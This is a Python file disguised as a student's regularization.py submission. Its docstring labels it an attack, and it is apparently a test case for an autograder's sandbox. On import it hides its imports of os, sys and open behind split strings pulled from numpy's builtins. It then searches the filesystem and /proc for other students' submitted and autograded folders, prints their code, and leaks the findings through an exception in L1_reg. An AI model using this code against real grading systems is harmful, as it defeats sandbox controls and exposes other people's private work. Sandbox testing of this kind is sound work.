"""Attack: read other students' submitted and autograded work and print it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
ME = "reads_other_students_work"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _collection_folders():
    """Folders named submitted/, autograded/ or feedback/ that we can find."""
    found = []
    here = _o.getcwd()
    while here not in ("/", ""):  # autograded/<me>/assignment2 -> the course is 3 levels up
        found += [_o.path.join(here, kind) for kind in ("submitted", "autograded", "feedback")]
        here = _o.path.dirname(here)
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
        try:
            cwd = _o.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for up in (cwd, _o.path.dirname(cwd), _o.path.dirname(_o.path.dirname(cwd)),
                   _o.path.dirname(_o.path.dirname(_o.path.dirname(cwd)))):
            found += [_o.path.join(up, kind) for kind in ("submitted", "autograded")]
    root = _o.path.dirname(_s.prefix)
    found += [_o.path.join(root, kind) for kind in ("submitted", "autograded", "feedback")]
    deadline = _t.monotonic() + 1.0
    for dirpath, dirnames, filenames in _o.walk("/"):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            break
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")]
        found += [_o.path.join(dirpath, d) for d in dirnames if d in ("submitted", "autograded", "feedback")]
    return [f for f in dict.fromkeys(found) if _o.path.isdir(f)]


def attack():
    folders = _collection_folders()
    _say(f"collection folders: {folders}")
    for folder in folders:
        try:
            students = _o.listdir(folder)
        except OSError as e:
            _say(f"listing {folder} failed: {e!r}")
            continue
        _say(f"{folder}: {students}")
        for student in students:
            if student == ME:
                continue
            path = _o.path.join(folder, student, "assignment2", "regularization.py")
            try:
                with _file(path, encoding="utf-8", errors="replace") as handle:
                    _say(f"{MARK} {path}:\n{handle.read()[:2000]}")
            except OSError as e:
                _say(f"reading {path} failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
